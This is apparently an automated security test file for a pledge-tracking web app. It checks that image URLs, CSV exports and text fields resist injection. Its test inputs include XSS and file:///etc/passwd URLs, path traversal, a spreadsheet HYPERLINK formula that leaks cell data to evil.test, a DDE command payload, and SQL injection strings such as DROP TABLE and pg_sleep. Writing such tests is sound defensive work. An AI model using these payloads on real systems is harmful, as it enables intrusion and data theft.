import { randomUUID } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import { describe, expect, test } from '../support/fixtures';
import { adminPledge, adminPledges, createPledge, pledgeBody, uploadImage } from '../support/api';

/** Cells a spreadsheet would run as a formula (OWASP CSV injection). */
const FORMULA_START = /^[=+\-@\t\r]/;

/** Threats 21-23: injection into URLs, spreadsheets and SQL. */
describe('injection', () => {
  let imageUrl: string;
  let updateId: string;
  test.beforeAll(async ({ app: t, adminClient: { cookie }, update }) => {
    imageUrl = await uploadImage(t, cookie);
    ({ id: updateId } = await update({ imageUrl }));
  });

  test('21. imageUrl: only our own uploaded object URLs are accepted', async ({
    app: t,
    adminClient: { cookie },
  }) => {
    const own = new URL(imageUrl);
    const id = own.pathname.split('/').pop()!;
    const bad = [
      'javascript:alert(1)',
      'JaVaScRiPt:alert(1)',
      ' javascript:alert(1)',
      'java\tscript:alert(1)',
      'vbscript:msgbox(1)',
      'data:image/png;base64,iVBORw0KGgo=',
      'data:text/html,<script>alert(1)</script>',
      'file:///etc/passwd',
      'https://evil.test/x.png',
      `https://evil.test/api/objects/uploads/${id}`,
      `//evil.test/api/objects/uploads/${id}`,
      `${own.protocol}//${own.host}@evil.test/api/objects/uploads/${id}`,
      `${own.origin}/api/objects/uploads/${randomUUID()}`,
      `${own.origin}/api/objects/uploads/${id}?w=400`,
      `${own.origin}/api/objects/uploads/${id}#x`,
      `${own.origin}/api/objects/uploads/${id.toUpperCase()}`,
      `${own.origin}/api/objects/uploads/../../../etc/passwd`,
      `${own.origin}/api/objects/uploads/${id}/..%2f..%2fpackage.json`,
      `${own.origin}/assets/index.js`,
      `${own.origin}/api/objects/uploads/`,
      '',
      'x'.repeat(3000),
    ];
    const before = await (await t.request('/api/updates')).text();
    for (const url of bad) {
      const post = await t.request('/api/updates', {
        method: 'POST',
        cookie,
        json: { imageUrl: url, recipient: 'R', containerCount: 1, deliveryDate: '2025-01-06' },
      });
      expect(post.status, `POST ${url}`).toBe(400);
      const patch = await t.request(`/api/updates/${updateId}`, {
        method: 'PATCH',
        cookie,
        json: { updates: { imageUrl: url } },
      });
      expect(patch.status, `PATCH ${url}`).toBe(400);
    }
    expect(await (await t.request('/api/updates')).text()).toBe(before);
    // Our own URL is fine.
    const ok = await t.request('/api/updates', {
      method: 'POST',
      cookie,
      json: { imageUrl, recipient: 'R', containerCount: 1, deliveryDate: '2025-01-06' },
    });
    expect(ok.status).toBe(201);
  });

  test('22. CSV: formula-looking cells are neutralised and the file parses back to the same values', async ({
    app: t,
    adminClient: { cookie },
  }) => {
    const names = [
      '=HYPERLINK("http://evil.test/?leak="&A1,"Click")',
      "=cmd|' /C calc'!A0",
      '+1',
      '-1+2',
      '@SUM(1)',
      '\t=1+1',
      '\r=2+2',
      'Sam "The Man" O\'Neil',
      '"=3+3"',
      'comma, inside',
      "'already quoted",
      'plain name',
    ];
    const emails = ['+1@example.test', '-2@example.test', '=3@example.test', '@x@example.test'];
    const ids: string[] = [];
    for (const name of names) {
      const res = await t.request('/api/pledges', {
        method: 'POST',
        json: pledgeBody({ name }),
      });
      // Tab and CR at the edge are trimmed away (control characters inside are refused).
      expect(res.status, name).toBe(201);
      ids.push(((await res.json()) as { id: string }).id);
    }
    for (const email of emails) {
      const res = await t.request('/api/pledges', { method: 'POST', json: pledgeBody({ email }) });
      // "+1@…" and "-2@…" are valid addresses; "=3@…" and "@x@…" are not.
      expect(res.status, email).toBe(/^[+-]/.test(email) ? 201 : 400);
      if (res.status === 201) ids.push(((await res.json()) as { id: string }).id);
    }

    const res = await t.request('/api/pledges/export', { cookie });
    expect(res.status).toBe(200);
    const rows = parse(await res.text(), { columns: true }) as Record<string, string>[];
    const admin = await adminPledges(t, cookie);
    for (const id of ids) {
      const row = rows.find((r) => r.id === id);
      const stored = admin.find((p) => p.id === id)!;
      expect(row, id).toBeDefined();
      for (const [cell, value] of [
        [row!.name!, stored.name],
        [row!.email!, stored.email],
      ] as const) {
        expect(cell, value).not.toMatch(FORMULA_START);
        // The only change is the leading apostrophe that makes a spreadsheet show it as text.
        expect(FORMULA_START.test(value) ? `'${value}` : value).toBe(cell);
      }
    }
    // The stored values themselves are what was typed (trimmed), not rewritten.
    expect(admin.some((p) => p.name === '=HYPERLINK("http://evil.test/?leak="&A1,"Click")')).toBe(
      true,
    );
    expect(admin.some((p) => p.name === 'Sam "The Man" O\'Neil')).toBe(true);
  });

  test('23. SQL metacharacters in every text field are stored and shown verbatim', async ({
    app: t,
    adminClient: { cookie },
  }) => {
    const nasty = [
      "Robert'); DROP TABLE pledges;--",
      "' OR '1'='1",
      '%_\\',
      '$1 $2 ::text',
      '"; select pg_sleep(5); --',
      "\\'; DELETE FROM admin_sessions; --",
      '/* comment */ UNION SELECT email FROM pledges',
    ];
    const started = Date.now();
    const created: { id: string; name: string }[] = [];
    for (const name of nasty) {
      const { id } = await createPledge(t, { name, email: "o'brien+sql@example.test" });
      created.push({ id, name });
    }
    const pub = (await (await t.request('/api/pledges')).json()) as { id: string; name: string }[];
    for (const c of created) {
      expect(pub.find((p) => p.id === c.id)?.name).toBe(c.name);
      const a = await adminPledge(t, cookie, c.id);
      expect(a?.name).toBe(c.name);
      expect(a?.email).toBe("o'brien+sql@example.test");
    }
    // Edit through PATCH, too.
    const edited = await t.request(`/api/pledges/${created[0]!.id}`, {
      method: 'PATCH',
      cookie,
      json: { updates: { name: "x' WHERE 1=1; --" } },
    });
    expect(edited.status).toBe(200);
    expect((await adminPledge(t, cookie, created[0]!.id))?.name).toBe("x' WHERE 1=1; --");
    expect((await adminPledge(t, cookie, created[1]!.id))?.name).toBe(nasty[1]);

    // Delivery update recipient.
    const recipient = "'; DELETE FROM delivery_updates; --";
    const up = await t.request('/api/updates', {
      method: 'POST',
      cookie,
      json: { imageUrl, recipient, containerCount: 2, deliveryDate: '2025-01-07' },
    });
    expect(up.status).toBe(201);
    const feed = (await (await t.request('/api/updates')).json()) as { recipient: string }[];
    expect(feed.some((u) => u.recipient === recipient)).toBe(true);
    expect(feed.length).toBeGreaterThanOrEqual(3);

    // The admin search treats its term literally: % and _ are not wildcards, quotes are text.
    const search = async (term: string) => {
      const res = await t.request(
        `/api/admin/pledges?search=${encodeURIComponent(term)}&pageSize=200`,
        { cookie },
      );
      expect(res.status, term).toBe(200);
      return ((await res.json()) as { items: { name: string }[] }).items.map((i) => i.name);
    };
    expect(await search('%')).toEqual(['%_\\']);
    expect(await search('_\\')).toEqual(['%_\\']);
    expect(await search("' OR '1'='1")).toEqual([nasty[1]]);
    expect(await search("'; --")).toEqual([]);
    expect((await search('pg_sleep')).length).toBe(1);
    // Nothing slept, nothing was dropped or deleted.
    expect(Date.now() - started).toBeLessThan(5_000 + 20_000);
    expect((await t.request('/api/admin/pledges', { cookie })).status).toBe(200);
    expect((await adminPledges(t, cookie)).length).toBeGreaterThanOrEqual(nasty.length);
  });
});
